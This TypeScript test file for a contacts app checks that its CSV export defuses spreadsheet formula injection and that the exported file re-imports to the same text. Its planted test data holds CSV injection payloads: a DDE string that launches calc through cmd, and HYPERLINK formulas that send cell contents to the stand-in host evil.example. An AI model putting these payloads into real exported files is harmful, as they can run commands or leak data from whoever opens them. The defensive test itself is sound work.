import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportContactsCsv, importContactsFile } from '../../main/import/index';
import { createCard } from '../../main/store/cards';
import { createContact, listContacts } from '../../main/store/contacts';
import { openDatabase, type Db } from '../../main/store/db';

/**
 * Issue 11, Medium: "CSV export leaves spreadsheet formulas live". OWASP's CSV
 * injection guidance: no cell may begin with = + - @ TAB or CR (ASVS 5.0
 * V1.2.10 adds NUL). Planted in header cells (custom-field names) and values;
 * the exported file is read back cell by cell, then re-imported into a fresh
 * card, which must hold exactly the original text.
 */
const LIVE = /^[=+\-@\t\r\0]/;

let dir: string;
let db: Db;

beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ferry-csv-injection-'));
  db = openDatabase(dir);
});
afterEach(() => {
  db.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('CSV export neutralises every formula cell (issue 11)', () => {
  it('leaves no live cell, header included, and re-imports to the same text', () => {
    const card = createCard(db, 'Planted').id;
    const planted = {
      firstName: '=1+1',
      lastName: '@SUM(A1:A9)',
      company: "+cmd|' /C calc'!A0",
      title: '-2+3',
      website: '=HYPERLINK("http://evil.example/?"&A2,"open")',
      notes: '\t=HYPERLINK("http://evil.example","x")',
      phones: [{ raw: '+1 555 0100', label: 'mobile' }],
      emails: [{ value: 'eve@example.com', label: '@work' }],
      meeting: { at: null, place: '@place', event: '-event', notes: '\r=1+1' },
      customFields: {
        '=HYPERLINK("http://evil.example","Shoe size")': '38',
        '@cmd': "'=already quoted",
        '+plus': '-minus',
        '-minus': '=value',
      },
    };
    createContact(db, card, planted, { region: 'US' });
    const file = path.join(dir, 'export.csv');
    exportContactsCsv(db, card, file);

    const rows = parse(fs.readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const cells = rows.flat();
    const live = cells.filter((c) => LIVE.test(c));
    expect(live, `live cells: ${JSON.stringify(live)}`).toEqual([]);
    // the 15 planted cells are all there, each behind one apostrophe
    const guarded = cells.filter((c) => c.startsWith("'"));
    expect(guarded.length).toBeGreaterThanOrEqual(15);
    expect(rows[0]).toContain(`'${'=HYPERLINK("http://evil.example","Shoe size")'}`);
    expect(rows[0]).toContain("'@cmd");

    const fresh = createCard(db, 'Re-imported').id;
    expect(importContactsFile(db, fresh, file, { region: 'US' })).toMatchObject({ added: 1, rejected: [] });
    const [back] = listContacts(db, fresh);
    const [original] = listContacts(db, card);
    const { id: _a, uid: _b, cardId: _c, source: _d, createdAt: _e, updatedAt: _f, version: _g, ...want } = original!;
    const { id: _h, uid: _i, cardId: _j, source: _k, createdAt: _l, updatedAt: _m, version: _n, ...got } = back!;
    // The importer reads a CR as a line break (import/decode.ts), so "\r=1+1" comes back as "\n=1+1": the same text as far as a file can say.
    expect(got).toEqual({ ...want, meeting: { ...want.meeting, notes: want.meeting.notes.replace(/\r/g, '\n') } });
  });
});
